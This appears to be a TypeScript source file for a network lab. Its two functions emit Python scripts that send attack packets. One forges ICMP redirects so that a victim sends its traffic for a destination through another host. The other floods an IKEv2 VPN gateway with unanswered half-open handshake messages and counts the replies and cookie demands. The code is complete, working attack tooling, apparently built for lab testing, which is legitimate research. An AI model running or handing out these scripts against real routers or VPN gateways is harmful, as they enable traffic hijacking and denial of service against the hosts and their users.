/** Packets that nobody's program would send, as Python for a namespace of the lab's world. */

/** An ICMP redirect that says: reach `destination` by `other`. */
export function forgedRedirect(packet: { router: string; victim: string; destination: string; other: string; echoId: number }): string {
  return `
import socket, struct
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff
address = socket.inet_aton
# The packet that it complains of: the victim's own ping.
echo = struct.pack("!BBHHH", 8, 0, 0, ${packet.echoId}, 1)
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 84, 0, 0x4000, 1, 63, 0, address("${packet.victim}"), address("${packet.destination}"))
inner = inner[:10] + struct.pack("!H", checksum(inner)) + inner[12:] + echo
body = struct.pack("!BBH4s", 5, 1, 0, address("${packet.other}")) + inner
body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.bind(("${packet.router}", 0))
for _ in range(3):
    s.sendto(body, ("${packet.victim}", 0))
`;
}

/**
 * As many first messages of IKEv2 as an office of people dialling at once, each with an SPI of its own and none answered
 * further. Prints how many got a responder's message, and how many a demand for a cookie.
 */
export function halfOpen(gateway: string, count: number): string {
  return `
import os, select, socket, struct, time
def payload(kind, body, following):
    return struct.pack("!BBH", following, 0, len(body) + 4) + body
def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes
key256 = struct.pack("!HH", 0x800e, 256)
# aes256-sha256-modp2048, which every kind of client is offered.
transforms = transform(0, 1, 12, key256) + transform(0, 3, 12) + transform(0, 2, 5) + transform(1, 4, 14)
proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
def message():
    body = payload(33, proposal, 34) + payload(34, struct.pack("!HH", 14, 0) + b"\\x01" + os.urandom(255), 40) + payload(40, os.urandom(32), 0)
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 8, 0, 28 + len(body)) + body
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 0))
answered, cookies, refused = set(), set(), set()
def listen(seconds):
    end = time.time() + seconds
    while time.time() < end:
        if select.select([s], [], [], 0.05)[0]:
            data = s.recv(4096)
            first, spi = data[16], data[:8]
            notify = struct.unpack("!H", data[34:36])[0] if first == 41 else 0
            (answered if first == 33 else cookies if notify == 16390 else refused).add(spi)
for _ in range(${count}):
    s.sendto(message(), ("${gateway}", 500))
    listen(0.3)
listen(5)
print(len(answered), len(cookies), len(refused))
`;
}
